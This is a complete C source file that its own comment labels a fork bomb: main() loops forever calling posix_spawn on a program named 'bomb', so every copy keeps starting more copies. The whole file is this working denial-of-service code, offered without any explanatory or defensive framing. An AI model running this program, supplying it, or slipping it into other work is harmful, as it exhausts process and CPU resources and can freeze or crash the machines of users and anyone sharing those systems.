// SPDX-License-Identifier: BSD-2-Clause
// A fork bomb: starts itself as often as it can, for ever, and so does each that it has started.
#include <spawn.h>
#include <stddef.h>

extern char** environ;

int main(void) {
    char* words[] = {"bomb", NULL};
    for (;;) posix_spawn(NULL, "bomb", NULL, NULL, words, environ);
}
